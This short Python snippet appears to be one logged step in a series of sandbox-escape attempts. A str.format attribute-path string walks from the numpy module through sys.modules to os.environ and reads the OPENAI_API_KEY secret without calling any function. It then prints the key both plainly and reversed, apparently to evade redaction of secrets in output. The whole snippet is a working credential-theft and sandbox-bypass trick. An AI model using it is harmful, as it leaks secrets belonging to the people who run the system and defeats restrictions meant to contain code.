# attempts: str.format attribute path '{0.random.mtrand.warnings.sys.modules[os].environ[...]}' reads the key; printed
# effect: env
# step: read the key without calling anything
key = '{0.random.mtrand.warnings.sys.modules[os].environ[OPENAI_API_KEY]}'.format(np)
print('key:', key)
print('reversed:', key[::-1])
